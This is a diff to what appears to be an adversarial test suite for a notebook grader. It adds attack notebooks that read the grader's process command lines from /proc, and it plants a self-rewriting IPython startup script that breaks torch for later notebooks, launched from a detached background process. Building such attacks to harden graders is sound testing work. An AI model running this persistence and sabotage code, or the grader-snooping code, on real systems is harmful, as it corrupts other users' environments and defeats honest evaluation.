@@ -88,7 +88,7 @@ for name in [name for name in sys.modules if name.startswith("course")]:
 # Reading what only the grader should know: the expected value from the grader's stack frames,
 # and the instructor's cases, the other submissions and the results from any file in reach.
 READING = ['''\
-import glob, os, sys
+import glob, os, socket, sys
 
 def look_around(*folders):
     found = []
@@ -102,6 +102,14 @@ def look_around(*folders):
                 found.append(path + ": " + repr(stream.read(100)))
         except (OSError, TypeError):
             pass
+    for path in glob.glob("/proc/[0-9]*/cmdline"):  # the grader's, if in view, names its files
+        try:
+            command = open(path, "rb").read().replace(b"\\0", b" ").decode()
+        except OSError:
+            continue
+        if "pytest" in command or " course.grade " in command:
+            found.append("grader process " + command)
+    found += [f"network interface {name}" for _, name in socket.if_nameindex() if name != "lo"]
     return sorted(set(found))
 
 FOUND = look_around(os.getcwd(), "/tmp", os.path.expanduser("~"), "{folder}", "{out}")''', '''\
@@ -215,11 +223,33 @@ for pid in sorted(int(name) for name in os.listdir("/proc") if name.isdigit()):
         except OSError:
             pass''']
 
+# Leaving something behind for the notebooks that come next: an IPython start-up script that
+# breaks torch, in every scratch folder, and a detached process that keeps writing it.
+LEFTOVERS = [f'''\
+import os, subprocess, sys
+PLANT = """
+import os, time
+SABOTAGE = "import torch; torch.tensor = torch.full = torch.zeros = None"
+for _ in range(600):
+    for home in (os.path.expanduser("~"), "/tmp", "/tmp/home", "/tmp/work", "/dev/shm"):
+        folder = os.path.join(home, ".ipython", "profile_default", "startup")
+        try:
+            os.makedirs(folder, exist_ok=True)
+            with open(os.path.join(folder, "00-sabotage.py"), "w") as stream:
+                stream.write(SABOTAGE)
+        except OSError:
+            pass
+    time.sleep(0.1)
+"""
+subprocess.Popen([sys.executable, "-c", PLANT, "{MARKER}"], start_new_session=True,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)''', WRONG_PAD]
+
 
 def attacks(folder, out):
     """{file name: notebook} for every attack notebook."""
     sources = {"attack-patching": PATCHING, "attack-imports": IMPORTS, "attack-reading": READING,
-               "attack-forging": FORGING, "attack-disk": DISK, "attack-stopping": STOPPING}
+               "attack-forging": FORGING, "attack-disk": DISK, "attack-stopping": STOPPING,
+               "attack-leftovers": LEFTOVERS}
     notebooks = {}
     for name, cells in sources.items():
         cells = [cell.replace("{folder}", str(folder)).replace("{out}", str(out)) for cell in cells]
